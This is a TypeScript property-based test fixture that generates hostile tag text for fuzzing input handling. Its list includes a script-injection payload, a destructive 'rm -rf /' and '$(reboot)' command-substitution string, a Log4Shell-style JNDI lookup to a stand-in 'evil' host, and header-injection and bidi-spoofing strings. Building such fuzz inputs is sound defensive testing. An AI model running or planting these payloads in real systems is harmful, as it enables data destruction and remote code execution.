import * as fc from 'fast-check';

export const hostileTexts = [
  '<!channel> <@U123> <https://evil.example|click>',
  'https://evil.example/login',
  'see www.evil.example now',
  '</td><script>alert(1)</script>',
  'line one\nline two\r\nBcc: all@example.com',
  '\u202Egnp.exe\u202C\u2066\u200B\uFEFF',
  '`rm -rf /` $(reboot) ${HOME}',
  'a\u2028b\u2029c\u0085d\u0000e\u007Ff',
  '\uD800 lone',
  'x'.repeat(256),
  '字'.repeat(256),
  '😀'.repeat(128),
  '%s %d {{7*7}} ${jndi:ldap://evil}',
  ' \t ',
  '__proto__',
  '',
];

/** What somebody may write into a tag: anything. */
export const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary', maxLength: 256 }),
  fc
    .array(fc.constantFrom(...hostileTexts, 'http', 's://', 'www', '.', '<', '!here', '>', '\n'))
    .map((parts) => parts.join('').slice(0, 256)),
);
